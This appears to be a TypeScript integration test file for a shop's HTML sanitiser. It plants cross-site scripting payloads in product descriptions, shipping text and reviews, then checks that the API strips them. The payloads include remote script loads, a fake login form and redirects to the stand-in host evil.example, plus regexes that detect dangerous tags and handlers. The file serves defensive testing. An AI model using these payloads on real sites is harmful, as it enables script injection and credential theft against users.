import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { sharedShop } from '../../support/running-shop.ts';

const shop = await sharedShop();
const product = 1;

/** Descriptions with content that must not reach a page. `kept` is the part that must. */
const payloads: readonly [html: string, kept?: string][] = [
  ['<p>Fired twice</p><script>alert(1)</script>', '<p>Fired twice</p>'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['<img src="/content/commonImages/a.webp" onerror="alert(1)">', 'src="/content/commonImages/a.webp"'],
  ['<img src=x onerror=alert(1)//>'],
  ['<img src="https://evil.example/track.png">'],
  ['<img src="//evil.example/track.png">'],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['<img src="/content/../api/v1/common/logout">'],
  ['<p onclick="alert(1)" onmouseover=alert(1)>Read</p>', '<p>Read</p>'],
  ['<a href="javascript:alert(1)">go</a>', 'go'],
  ['<a href=" jAvAsCrIpT:alert(1)">go</a>', 'go'],
  ['<a href="java\tscript:alert(1)">go</a>', 'go'],
  ['<a href="&#106;avascript&colon;alert(1)">go</a>', 'go'],
  ['<a href="vbscript:x">go</a>', 'go'],
  ['<a href="data:text/html,<script>alert(1)</script>">go</a>', 'go'],
  ['<a href="https://example.com/care">care</a>', 'https://example.com/care'],
  ['<iframe src="https://evil.example"></iframe>'],
  ['<object data="x"></object><embed src="x"><applet></applet>'],
  ['<svg onload="alert(1)"><animate onbegin="alert(1)"/></svg>'],
  ['<math><mtext><script>alert(1)</script></mtext></math>'],
  ['<form action="https://evil.example"><input name="Password"><button>Log in</button></form>'],
  ['<style>body{display:none}</style><link rel="stylesheet" href="//evil.example">'],
  ['<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">'],
  ['<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>', 'x</p>'],
  ['<p style="direction:rtl;color:red" class="kado" id="root">ពែង</p>', 'dir="rtl"'],
  ['<video src="x" onloadstart="alert(1)"></video><details open ontoggle="alert(1)">x</details>'],
  [
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
  ],
  ['<p>\u2028</script><script>alert(1)</script>'],
  ['<!--><script>alert(1)</script--><!-- <img src=x onerror=alert(1)> -->'],
  [
    '<ul><li><strong>Care</strong></li></ul><table><tbody><tr><td>9 cm</td></tr></tbody></table>',
    '<ul><li><strong>Care</strong></li></ul>',
  ],
];

const tags =
  /<\/?(script|iframe|object|embed|applet|svg|math|form|input|button|style|link|meta|base|video|audio|details|template|noscript|animate|foreignobject)\b/iu;
const handlers = /<[^>]*\son\w+\s*=/iu;
const attributes = /<[^>]*\s(style|class|id|srcset|srcdoc|action|formaction|xlink:href)\s*=/iu;

/** Returns URLs as a browser reads them: entities resolved, whitespace and control characters removed. */
const addresses = (html: string) =>
  [...html.matchAll(/\s(?:href|src)\s*=\s*"([^"]*)"/giu)].map(([, value = '']) =>
    value
      .replaceAll(/&colon;/giu, ':')
      .replaceAll(/&#(\d+);/gu, (_all, code) => String.fromCodePoint(Number(code)))
      .replaceAll(/[\s\p{Cc}]/gu, ''),
  );

/** Returns harmful content of the HTML, or '' if there is none. */
function harmIn(html: string): string[] {
  const found = [tags, handlers, attributes].map((pattern) => pattern.exec(html)?.[0]);
  const led = addresses(html).filter(
    (each) => !/^(https?:\/\/|mailto:|tel:|\/content\/(?!.*\.\.))/iu.test(each),
  );
  const shown = [...html.matchAll(/<img[^>]*\ssrc\s*=\s*"([^"]*)"/giu)].map(([, source = '']) => source);
  return [
    ...found.filter((each) => each !== undefined),
    ...led,
    ...shown.filter((each) => !each.startsWith('/content/')),
  ];
}

const described = async (languageCode: string): Promise<string> =>
  (await shop.request('dynamic/dataoperation/get-product_detail', { ProductId: product, languageCode }))
    .data[0].FullDescription;

describe('a stored description with hostile markup is served without it', () => {
  it.each(payloads)('a stored description is served without %s', async (html, stored = '') => {
    await sql`update product_text set full_description = ${html} where product_id = ${product}`.execute(
      shop.db,
    );
    for (const languageCode of ['en', 'ar']) {
      const read = await described(languageCode);
      expect(harmIn(read)).toEqual([]);
      expect(read).toContain(stored);
    }
  });

  it('a stored description is served without all hostile markup at once', async () => {
    const all = payloads.map(([html]) => html).join('\n');
    await sql`update product_text set full_description = ${all} where product_id = ${product}`.execute(
      shop.db,
    );
    expect(harmIn(await described('en'))).toEqual([]);
  });
});

it('the shop’s shipping text is sanitized, too', async () => {
  const hostile = { en: payloads.map(([html]) => html).join('\n'), km: '<img src=x onerror=alert(1)>' };
  await sql`update setting set value = ${JSON.stringify(hostile)}::jsonb where name = 'shippingInfo'`.execute(
    shop.db,
  );
  for (const languageCode of ['en', 'ar']) {
    const { data } = await shop.request('common/get-shop-settings', { languageCode });
    expect(harmIn(data.ShippingInfo)).toEqual([]);
  }
  const { data } = await shop.request('common/get-shop-settings', { languageCode: 'en' });
  expect(data.ShippingInfo).toContain('Fired twice');
});

it('names and reviews are plain text, and stay unchanged', async () => {
  const text = '<b onclick="alert(1)">5 < 6 & "7"</b></script>';
  await sql`update product_text set name = ${text}, short_description = ${text} where product_id = ${product}`.execute(
    shop.db,
  );
  await sql`update review set title = ${text}, body = ${text}, reviewer_name = ${text} where product_id = ${product}`.execute(
    shop.db,
  );
  const { data: details } = await shop.request('dynamic/dataoperation/get-product_detail', {
    ProductId: product,
  });
  expect(details[0]).toMatchObject({ ProductName: text, ShortDescription: text });
  const { data: reviews } = await shop.request('dynamic/dataoperation/get-product-reviews', {
    ProductId: product,
  });
  expect(reviews[0]).toMatchObject({ Title: text, Body: text, ReviewerName: text });
});
